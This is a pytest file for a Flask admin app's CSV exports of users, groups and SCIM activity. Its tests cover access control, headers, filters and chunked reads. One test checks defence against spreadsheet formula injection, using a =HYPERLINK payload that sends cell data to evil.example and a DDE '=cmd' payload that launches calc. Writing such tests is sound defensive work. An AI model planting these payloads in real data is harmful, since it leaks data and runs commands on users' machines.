"""CSV exports of users, groups and SCIM activity (``/admin/*.csv``): Server Admins only, streamed in
chunks, UTF-8, safe to open in a spreadsheet, following the list page's filters. Through the Flask
test client, on the real database."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from flask import Flask
from flask.testing import FlaskClient

from scimgate.accounts import groups as app_groups
from scimgate.extensions import db
from scimgate.logs.activity import ScimActivity
from scimgate.models import User, UserProfile, utcnow
from scimgate.web.admin import export
from tests.support.config import add_group, add_local_user, add_pushed_user
from tests.support.signin import add_admin, configure_dev_saml, password_sign_in, saml_sign_in
from tests.support.sql_counter import count_statements

EXPORTS = ["/admin/users.csv", "/admin/groups.csv", "/admin/activity.csv"]
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.fixture
def admin(app: Flask, client: FlaskClient) -> FlaskClient:
    """A signed-in built-in Server Admin (SAML on through the development IdP, SCIM off)."""
    configure_dev_saml(app)
    with app.app_context():
        add_admin()
    assert password_sign_in(client, "admin").status_code == 302
    return client


def rows_of(response) -> list[list[str]]:
    """The CSV body as rows (the UTF-8 byte-order mark first, for spreadsheets)."""
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def by_first_column(rows: list[list[str]]) -> dict[str, list[str]]:
    return {row[0]: row for row in rows[1:]}


@pytest.mark.parametrize("path", EXPORTS)
def test_anonymous_visitors_are_sent_to_sign_in(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 303
    assert response.headers["Location"] == f"/login?next={path}"


@pytest.mark.parametrize("path", EXPORTS)
def test_signed_in_non_admins_are_refused(app: Flask, client: FlaskClient, path: str) -> None:
    configure_dev_saml(app)
    saml_sign_in(client, "viewer")
    response = client.get(path)
    assert response.status_code == 403
    assert "text/csv" not in response.headers["Content-Type"]


@pytest.mark.parametrize(("path", "name"), zip(EXPORTS, ["users", "groups", "activity"], strict=True))
def test_exports_are_utf8_attachments_named_with_the_date(admin: FlaskClient, path: str, name: str) -> None:
    response = admin.get(path)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    today = utcnow().date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="scimgate-{name}-{today}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert response.is_streamed


def test_users_export_has_every_column(app: Flask, admin: FlaskClient) -> None:
    with app.app_context():
        pushed = add_pushed_user("bjensen")
        pushed.profile.display_name = "Zoë Jensen 张伟"
        db.session.commit()
        scim_id, external_id = pushed.scim.scim_user_uuid, pushed.scim.external_id
        add_group("Okta Admins", [pushed])
        add_group("Data Stewards", [pushed], client=None)
        add_local_user("carol")
    rows = rows_of(admin.get("/admin/users.csv"))
    assert rows[0] == [
        "Username",
        "Display name",
        "Email",
        "Kind",
        "Status",
        "Role",
        "SCIM id",
        "externalId",
        "Groups",
    ]
    users = by_first_column(rows)
    assert users["bjensen"] == [
        "bjensen",
        "Zoë Jensen 张伟",
        "bjensen@example.com",
        "scim",
        "active",
        "viewer",
        scim_id,
        external_id,
        "Data Stewards; Okta Admins",
    ]
    assert users["carol"][3:7] == ["saml", "active", "viewer", ""]
    assert users["admin"][3:6] == ["builtin", "active", "server_admin"]


def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(app: Flask, admin: FlaskClient) -> None:
    with app.app_context():
        user = User(username=HOSTILE, email="@evil.example")
        user.profile = UserProfile(display_name="+1 555 0100")
        db.session.add(user)
        for prefix in ("-", "\t", "\r"):
            other = User(username=f"{prefix}2+3 {len(prefix)}{ord(prefix)}")
            other.profile = UserProfile(display_name="")
            db.session.add(other)
        db.session.commit()
        add_group("=cmd|' /C calc'!A0", [user], client=None)
    rows = rows_of(admin.get("/admin/users.csv"))
    users = by_first_column(rows)
    row = users["'" + HOSTILE]
    assert row[1] == "'+1 555 0100" and row[2] == "'@evil.example"
    assert row[8] == "'=cmd|' /C calc'!A0"
    for prefix in ("-", "\t", "\r"):
        assert f"'{prefix}2+3 {len(prefix)}{ord(prefix)}" in users
    unsafe = re.compile(r"^[=+\-@\t\r]")
    assert not [cell for r in rows for cell in r if unsafe.match(cell)]
    groups = by_first_column(rows_of(admin.get("/admin/groups.csv")))
    assert "'=cmd|' /C calc'!A0" in groups


def test_users_export_follows_the_pages_search_and_kind(app: Flask, admin: FlaskClient) -> None:
    with app.app_context():
        add_pushed_user("bjensen")
        add_pushed_user("bsmith")
        add_local_user("bjones")
    assert set(by_first_column(rows_of(admin.get("/admin/users.csv?q=bj")))) == {"bjensen", "bjones"}
    assert set(by_first_column(rows_of(admin.get("/admin/users.csv?q=bj&kind=scim")))) == {"bjensen"}
    assert set(by_first_column(rows_of(admin.get("/admin/users.csv?kind=builtin")))) == {"admin"}
    page = admin.get("/admin/users?q=bj&kind=scim").get_data(as_text=True)
    assert 'href="/admin/users.csv?q=bj&amp;kind=scim"' in page


def test_groups_export_has_name_kind_role_and_member_count(app: Flask, admin: FlaskClient) -> None:
    with app.app_context():
        one, two = add_pushed_user("one"), add_pushed_user("two")
        add_group("Okta Admins", [one, two])
        stewards = add_group("Data Stewards", [one], client=None)
        app_groups.set_group_role(stewards, "steward")
    rows = rows_of(admin.get("/admin/groups.csv"))
    assert rows[0] == ["Name", "Kind", "Role", "Members"]
    groups = by_first_column(rows)
    assert groups["Okta Admins"] == ["Okta Admins", "scim", "", "2"]
    assert groups["Data Stewards"] == ["Data Stewards", "application", "steward", "1"]
    assert set(by_first_column(rows_of(admin.get("/admin/groups.csv?q=okta")))) == {"Okta Admins"}
    page = admin.get("/admin/groups?q=okta").get_data(as_text=True)
    assert 'href="/admin/groups.csv?q=okta"' in page


def test_activity_export_newest_first_with_status_filter(app: Flask, admin: FlaskClient) -> None:
    with app.app_context():
        for second, status in enumerate([201, 404, 200]):
            db.session.add(
                ScimActivity(
                    at=dt.datetime(2026, 12, 4, 7, 23, second),
                    method="POST" if status == 201 else "GET",
                    path="/scim/v2/Users",
                    status=status,
                    duration_ms=12.25,
                    request_id=f"req-{second}",
                    principal="token:abcd1234",
                )
            )
        db.session.commit()
    rows = rows_of(admin.get("/admin/activity.csv"))
    assert rows[0] == [
        "Time",
        "Method",
        "Path",
        "Status",
        "Duration (ms)",
        "Request id",
        "Credential",
        "Requests",
        "Reason",
    ]
    assert [r[5] for r in rows[1:]] == ["req-2", "req-1", "req-0"]
    assert rows[3] == [
        "2026-12-04T07:23:00+00:00",
        "POST",
        "/scim/v2/Users",
        "201",
        "12.25",
        "req-0",
        "token:abcd1234",
        "1",
        "",
    ]
    failed = rows_of(admin.get("/admin/activity.csv?status=errors"))
    assert [r[5] for r in failed[1:]] == ["req-1"]
    page = admin.get("/admin/activity?status=errors").get_data(as_text=True)
    assert 'href="/admin/activity.csv?status=errors"' in page


def test_exports_read_in_chunks_never_the_whole_table(
    app: Flask, admin: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "CHUNK", 20)
    with app.app_context():
        db.session.add_all(
            User(username=f"user{n:03}", profile=UserProfile(display_name="")) for n in range(55)
        )
        db.session.commit()
    with count_statements(app) as statements:
        rows = rows_of(admin.get("/admin/users.csv"))
    assert len(rows) == 1 + 56
    user_reads = [s for s in statements if s.lstrip().upper().startswith("SELECT") and "FROM auth_user" in s]
    chunks = [s for s in user_reads if "LIMIT" in s.upper()]
    assert len(chunks) >= 3  # 56 users, 20 at a time
    whole_table = [s for s in user_reads if "LIMIT" not in s.upper() and "auth_user.id =" not in s]
    assert not whole_table  # only the session's own user is read by key
